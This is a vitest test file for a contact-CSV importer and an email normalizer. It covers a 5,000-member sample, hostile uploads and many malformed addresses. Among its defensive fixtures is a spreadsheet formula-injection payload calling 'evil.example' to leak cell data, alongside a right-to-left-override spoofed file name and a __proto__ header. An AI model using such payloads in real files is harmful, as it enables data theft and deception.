// What happens to a contact file: a real one with the usual dirt, hostile ones, and the addresses in them.
import { createReadStream } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { describe, expect, test } from 'vitest';
import { normalizeEmail } from '../src/domain/email.ts';
import { readContactFile, type ContactRow } from '../src/imports/contact-file.ts';
import { csvLimits } from '../src/imports/csv.ts';
import type { ContactDraft } from '../src/imports/recognition.ts';

const sample = (name: string) => new URL(`../samples/${name}`, import.meta.url);
const readSample = (name: string) => collect(createReadStream(sample(name)));
const readText = (text: string) => collect(chunks(Buffer.from(text)));

async function collect(stream: AsyncIterable<Uint8Array>): Promise<ContactRow[]> {
  const rows: ContactRow[] = [];
  for await (const row of readContactFile(stream)) rows.push(row);
  return rows;
}

async function* chunks(bytes: Uint8Array, size = bytes.length || 1): AsyncGenerator<Uint8Array> {
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

const draftsOf = (rows: ContactRow[]) => rows.flatMap((row) => ('draft' in row ? [row.draft] : []));
const problemsOf = (rows: ContactRow[]) => rows.flatMap((row) => ('problem' in row ? [row.problem] : []));
const count = <T>(items: T[], test: (item: T) => unknown) => items.filter(test).length;

describe('a membership club with 5,000 members', async () => {
  const rows = await readSample('riverside-club.csv');
  const drafts = draftsOf(rows);
  const row = (rowNumber: number) => rows.find((candidate) => candidate.rowNumber === rowNumber)! as { draft: ContactDraft };

  test('every row comes out once, in order, as a draft or as a problem', () => {
    expect(rows.map(({ rowNumber }) => rowNumber)).toEqual(Array.from({ length: 5_000 }, (_, index) => index + 2));
    expect(drafts).toHaveLength(4_988);
    expect(problemsOf(rows)).toHaveLength(12);
  });

  test('an invalid email is a problem that names its row and column, and repeats no personal data', () => {
    const invalid = problemsOf(rows).filter(({ code }) => code === 'INVALID_EMAIL');
    expect(invalid.map(({ rowNumber }) => rowNumber)).toEqual([500, 999, 1498, 1997, 2496, 2995, 3494, 3993, 4492, 4991]);
    expect(invalid[0]).toEqual({
      rowNumber: 500,
      code: 'INVALID_EMAIL',
      column: 'Email',
      message: 'This is not an email address. Write it like name@example.org, or leave the cell empty.',
    });
  });

  test('a member entered twice is kept once, also when the second email is padded with spaces', () => {
    expect(problemsOf(rows).filter(({ code }) => code !== 'INVALID_EMAIL')).toEqual([
      {
        rowNumber: 5000,
        code: 'DUPLICATE_EMAIL',
        column: 'Email',
        message: 'Row 12 has the same email address. Keep one of the two rows.',
      },
      {
        rowNumber: 5001,
        code: 'DUPLICATE_EMAIL',
        column: 'Email',
        message: 'Row 22 has the same email address. Keep one of the two rows.',
      },
    ]);
  });

  test('every value of the valid rows arrives', () => {
    const filled = (field: keyof ContactDraft) => count(drafts, (draft) => draft[field]?.length);
    expect({
      memberNumber: filled('memberNumber'),
      firstName: filled('firstName'),
      lastName: filled('lastName'),
      email: filled('email'),
      company: filled('company'),
      jobTitle: filled('jobTitle'),
      street: filled('street'),
      city: filled('city'),
      postalCode: filled('postalCode'),
      country: filled('country'),
      birthDate: filled('birthDate'),
      contactPoints: filled('contactPoints'),
      memberships: filled('memberships'),
      notes: filled('notes'),
      tags: drafts.flatMap(({ tags }) => tags).length,
    }).toEqual({
      memberNumber: 4_988,
      firstName: 4_988,
      lastName: 4_988,
      email: 4_937,
      company: 1_663,
      jobTitle: 1_663,
      street: 4_988,
      city: 4_988,
      postalCode: 4_988,
      country: 4_988,
      birthDate: 3_741,
      contactPoints: 3_991,
      memberships: 4_988,
      notes: 554,
      tags: 2_495,
    });
    expect(Object.groupBy(drafts, ({ memberships }) => memberships[0]!.planName)).toMatchObject({
      Family: { length: 998 },
      Student: { length: 998 },
      Patron: { length: 998 },
      Honorary: { length: 997 },
      Adult: { length: 997 },
    });
  });

  test('leading zeros, letters of any script, tags and notes of several lines stay as they are', () => {
    expect(row(7).draft).toEqual({
      memberNumber: '000006',
      firstName: '愛菜',
      lastName: '松崎',
      email: 'x.x6@example.org',
      company: '株式会社阿部化学',
      jobTitle: '事業セキュリティデザイナー',
      street: '5丁目7番7号',
      city: '心結区',
      postalCode: '387-3524',
      country: 'グレナダ',
      birthDate: '1987-03-02',
      contactPoints: [{ kind: 'PHONE', label: 'Mobile', value: '02468-3-0292' }],
      tags: ['volunteer', 'board'],
      notes: [],
      memberships: [{ planName: 'Family', startsOn: '2023-10-03', endsOn: '2027-10-03' }],
    });
    expect(row(10).draft.notes).toEqual(['Met at the dynamique regatta.\nAsked about "early bird", wants a call back.']);
    expect(count(drafts, ({ postalCode }) => postalCode!.startsWith('0'))).toBe(474);
  });

  test('an email written in capitals keeps its spelling', () => {
    expect(count(drafts, ({ email }) => email && email !== email.toLowerCase())).toBe(23);
  });

  test('the size of the chunks it arrives in makes no difference', async () => {
    const bytes = await readFile(sample('riverside-club.csv'));
    expect(await collect(chunks(bytes, 61))).toEqual(rows);
  });
});

describe('a hostile file', () => {
  test('that is empty is refused', async () => {
    await expect(readSample('hostile/empty.csv')).rejects.toMatchObject({ code: 'EMPTY_FILE' });
    await expect(readText('\r\n\r\n , \n')).rejects.toMatchObject({ code: 'EMPTY_FILE' });
  });

  test('with a header alone has no rows', async () => {
    expect(await readSample('hostile/header-only.csv')).toEqual([]);
  });

  test('with broken quotes is refused and names the row', async () => {
    await expect(readSample('hostile/broken-quotes.csv')).rejects.toMatchObject({
      code: 'BROKEN_QUOTES',
      message: expect.stringContaining('row 2'),
    });
    await expect(readText('Email\na@example.org\n"b@example.org\n')).rejects.toMatchObject({
      code: 'BROKEN_QUOTES',
      message: expect.stringContaining('row 3'),
    });
  });

  test('with formulas gives their text', async () => {
    expect(draftsOf(await readSample('hostile/formula.csv'))).toMatchObject([
      { firstName: '=HYPERLINK("http://evil.example/?x="&A1)', lastName: 'Cell', email: 'a@example.org', notes: ['+1+1'] },
      { firstName: '@SUM(A1)', lastName: 'Tab', email: 'b@example.org', notes: ['-2+3'] },
    ]);
  });

  test('with a line of a megabyte is refused and names the row', async () => {
    await expect(readSample('hostile/long-line.csv')).rejects.toMatchObject({
      code: 'ROW_TOO_LONG',
      message: expect.stringContaining('Row 2'),
    });
  });

  const starts = ['Email', 'Email\n', 'Email\n"'];
  test.each(starts.flatMap((start) => ['x', ',', '"'].map((filler) => [start, filler])))(
    'that goes on after %j with %j for ever is refused after the longest row allowed, and closed',
    async (start, filler) => {
      let sent = 0;
      let closed = false;
      const endless = async function* () {
        try {
          for (yield Buffer.from(start); ; sent += 65_536) yield Buffer.alloc(65_536, filler);
        } finally {
          closed = true;
        }
      };
      await expect(collect(endless())).rejects.toMatchObject({ code: 'ROW_TOO_LONG' });
      expect(sent).toBeLessThan(2 * csvLimits.rowLength);
      expect(closed).toBe(true);
    },
  );

  test('with NUL characters loses those rows only; marks that a name may hold stay', async () => {
    const rows = await readSample('hostile/nul-and-control.csv');
    expect(problemsOf(rows)).toMatchObject([{ rowNumber: 2, code: 'NUL_CHARACTER', column: 'First Name' }]);
    expect(draftsOf(rows)).toMatchObject([{ firstName: '\u202egnp.exe' }, { firstName: 'Z\u0301\u0302\u0303\u0304'.normalize('NFC') }]);
  });

  test('with __proto__ as a header reads it as an unknown column', async () => {
    const drafts = draftsOf(await readSample('hostile/prototype.csv'));
    expect(drafts).toEqual([{ email: 'p@example.org', contactPoints: [], tags: [], notes: [], memberships: [] }]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('that is not text in UTF-8 is refused', async () => {
    await expect(collect(chunks(Buffer.from('Email,Straße\n', 'latin1')))).rejects.toMatchObject({ code: 'NOT_UTF8' });
    await expect(collect(chunks(Buffer.from('Email\na@example.org\n', 'utf16le')))).rejects.toMatchObject({ code: 'NUL_CHARACTER' });
    await expect(collect(chunks(Buffer.from('Email\n\u00fc').subarray(0, -1)))).rejects.toMatchObject({ code: 'NOT_UTF8' });
  });

  test('with too many columns, or none that is known, is refused', async () => {
    await expect(readText(`Email${','.repeat(200)}\n`)).rejects.toMatchObject({ code: 'TOO_MANY_COLUMNS' });
    await expect(readText('constructor,toString\na,b\n')).rejects.toMatchObject({ code: 'NO_KNOWN_COLUMN' });
    await expect(readText('Email,E-Mail-Adresse\na@b.example,\n')).rejects.toMatchObject({ code: 'DUPLICATE_COLUMN' });
  });

  test('that breaks off while it is uploaded fails with the cause', async () => {
    const broken = async function* () {
      yield Buffer.from('Email\na@example.org\n');
      throw new Error('connection lost');
    };
    await expect(collect(broken())).rejects.toThrow('connection lost');
  });
});

describe('a spreadsheet', () => {
  test('is read with any of the three separators, a byte order mark and any line end', async () => {
    const expected = [
      { firstName: 'Ann, the; first', lastName: 'Bell' },
      { firstName: 'Bob', lastName: 'Row' },
    ];
    for (const separator of [',', ';', '\t']) {
      for (const end of ['\n', '\r\n', '\r']) {
        const text = `\ufeff${end}"First\nName"${separator}Last Name${end}"Ann, the; first"${separator}Bell${end}Bob${separator}Row`;
        const rows = await collect(chunks(Buffer.from(text), 1));
        expect(draftsOf(rows)).toMatchObject(expected);
        expect(rows.map(({ rowNumber }) => rowNumber)).toEqual([3, 4]);
      }
    }
  });

  test.each([
    ['Mitglieds-Nr;Vorname;NACHNAME;E-Mail-Adresse;Handy;Straße;PLZ;Ort;Geburtsdatum;Mitglied seit;Mitgliedsart'],
    ["Numéro d'adhérent;Prénom;Nom;Courriel;Téléphone portable;Rue;Code postal;Ville;Date de naissance;Date d’adhésion;Type d’adhésion"],
    ['Nº de socio;Nombre;Apellidos;Correo electrónico;Móvil;Calle;Código postal;Ciudad;Fecha de nacimiento;Fecha de alta;Tipo de membresía'],
    ['ÜYE NO;ADI;SOYADI;E-POSTA;CEP TELEFONU;SOKAK;POSTA KODU;ŞEHİR;DOĞUM TARİHİ;ÜYELİK BAŞLANGICI;ÜYELİK TÜRÜ'],
  ])('is recognized by its header: %s', async (header) => {
    const rows = await readText(`${header}\n007;Ann;Bell;ann@example.org;555;Elm 1;01234;Ayr;1990-12-31;2024-01-01;Adult`);
    expect(draftsOf(rows)).toEqual([
      {
        memberNumber: '007',
        firstName: 'Ann',
        lastName: 'Bell',
        email: 'ann@example.org',
        contactPoints: [{ kind: 'PHONE', label: 'Mobile', value: '555' }],
        street: 'Elm 1',
        postalCode: '01234',
        city: 'Ayr',
        birthDate: '1990-12-31',
        memberships: [{ planName: 'Adult', startsOn: '2024-01-01' }],
        tags: [],
        notes: [],
      },
    ]);
  });

  test('gives trimmed and composed text, tags once each, and skips blank rows', async () => {
    const rows = await readText('First Name,Tags,Notes,Comments\n\u00a0Zoe\u0308 , b; a;b;;, one ,two\n , ,\n\nBo\n');
    expect(rows).toEqual([
      { rowNumber: 2, draft: { firstName: 'Zo\u00eb', tags: ['b', 'a'], notes: ['one', 'two'], contactPoints: [], memberships: [] } },
      { rowNumber: 5, draft: { firstName: 'Bo', tags: [], notes: [], contactPoints: [], memberships: [] } },
    ]);
  });

  test.each([
    ['12/31/1990', 'INVALID_DATE', 'Birth Date', 'Ann,,12/31/1990,,,'],
    ['a day that does not exist', 'INVALID_DATE', 'Birth Date', 'Ann,,2023-02-29,,,'],
    ['year 0', 'INVALID_DATE', 'Birth Date', 'Ann,,0000-01-01,,,'],
    ['a membership without its start', 'INCOMPLETE_MEMBERSHIP', undefined, 'Ann,,,Adult,,2027-01-01'],
    ['a membership without its plan', 'INCOMPLETE_MEMBERSHIP', undefined, 'Ann,,,,2026-01-01,'],
    ['a membership that ends before it starts', 'MEMBERSHIP_ENDS_BEFORE_START', 'Membership Expiry', 'Ann,,,Adult,2026-01-01,2025-12-31'],
    ['nobody', 'NO_NAME_OR_EMAIL', undefined, ',,1990-12-31,,,'],
    ['a hidden character in an email', 'INVALID_EMAIL', 'Email', 'Ann,ann\u200b@example.org,,,,'],
    ['a name too long for an index', 'VALUE_TOO_LONG', 'First Name', `${'n'.repeat(256)},,,,,`],
    ['a cell beyond the limit', 'CELL_TOO_LONG', 'First Name', `${'n'.repeat(10_001)},,,,,`],
    ['a separator too many', 'TOO_MANY_CELLS', undefined, 'Bell, Ann,,,,,x'],
  ])('has a problem with %s and goes on after it', async (_, code, column, line) => {
    const rows = await readText(`First Name,Email,Birth Date,Membership Plan,Membership Start,Membership Expiry\n${line}\nBo,bo@example.org\n`);
    expect(problemsOf(rows)).toEqual([{ rowNumber: 2, code, column, message: expect.stringMatching(/\.$/) }]);
    expect(draftsOf(rows)).toMatchObject([{ firstName: 'Bo', email: 'bo@example.org' }]);
  });

  test('may repeat neither an email in another spelling nor a member number; 7 and 007 differ', async () => {
    const rows = await readText('Member No,Email\n007,A@Bücher.example\n7,a@xn--bcher-kva.example\n007,b@example.org\n7,c@example.org\n,d@example.org');
    expect(problemsOf(rows)).toMatchObject([
      { rowNumber: 3, code: 'DUPLICATE_EMAIL', message: expect.stringContaining('Row 2') },
      { rowNumber: 4, code: 'DUPLICATE_MEMBER_NUMBER', message: expect.stringContaining('Row 2') },
    ]);
    expect(draftsOf(rows)).toHaveLength(3);
  });
});

describe('an email address', () => {
  test.each([
    ['A@B.example ', 'a@b.example'],
    ['\u00a0ann@example.org\t', 'ann@example.org'],
    ["o'neil+club_1@sub.example.org", "o'neil+club_1@sub.example.org"],
    ['ＡＮＮ＠ＥＸＡＭＰＬＥ．ＯＲＧ', 'ann@example.org'],
    ['ann@例え。テスト', 'ann@xn--r8jz45g.xn--zckzah'],
    ['ann@bücher.example', 'ann@xn--bcher-kva.example'],
    ['ann@BU\u0308CHER.example', 'ann@xn--bcher-kva.example'],
    ['ann@xn--bcher-kva.example', 'ann@xn--bcher-kva.example'],
    ['jose\u0301@example.org', 'jos\u00e9@example.org'],
    ['愛菜@example.org', '愛菜@example.org'],
    [`${'l'.repeat(64)}@example.org`, `${'l'.repeat(64)}@example.org`],
  ])('%j is compared as %j', (written, normalized) => {
    expect(normalizeEmail(written)).toBe(normalized);
    expect(normalizeEmail(normalized)).toBe(normalized);
  });

  test('with look-alike letters is another address', () => {
    expect(normalizeEmail('\u0430nn@example.org')).toBe('\u0430nn@example.org');
    expect(normalizeEmail('\u0430nn@example.org')).not.toBe(normalizeEmail('ann@example.org'));
    expect(normalizeEmail('ann@ex\u0430mple.org')).not.toBe(normalizeEmail('ann@example.org'));
  });

  test.each([
    '',
    ' ',
    '@',
    'not-an-email',
    'ann@',
    '@example.org',
    'ann@localhost',
    'a@b@example.org',
    'a＠b@example.org',
    'an n@example.org',
    'ann@exam ple.org',
    'a\0nn@example.org',
    'ann\n@example.org',
    'a\u202enn@example.org',
    'ann\u200d@example.org',
    'ann@exa\u00admple.org',
    'ann\u3164@example.org',
    '\ud800@example.org',
    '"ann b"@example.org',
    '<ann@example.org>',
    'a,b@example.org',
    '.ann@example.org',
    'ann.@example.org',
    'a..n@example.org',
    'ann@example..org',
    'ann@.example.org',
    'ann@example.org.',
    'ann@-example.org',
    'ann@example-.org',
    'ann@under_score.org',
    'ann@[127.0.0.1]',
    'ann@127.0.0.1',
    'ann@1.2',
    'ann@0x7f.1',
    'ann@ex%61mple.org',
    'ann@example.org/x',
    'ann@example.org:25',
    'ann@xn--.org',
    `${'l'.repeat(65)}@example.org`,
    `ann@${'d'.repeat(64)}.org`,
    `ann@${'d.'.repeat(125)}org`,
    `${'é'.repeat(33)}@example.org`,
  ])('is not %j', (written) => {
    expect(normalizeEmail(written)).toBeNull();
  });

  test('of a megabyte is refused without work', () => {
    expect(normalizeEmail(`ann@${'ü'.repeat(1_000_000)}.org`)).toBeNull();
  });
});
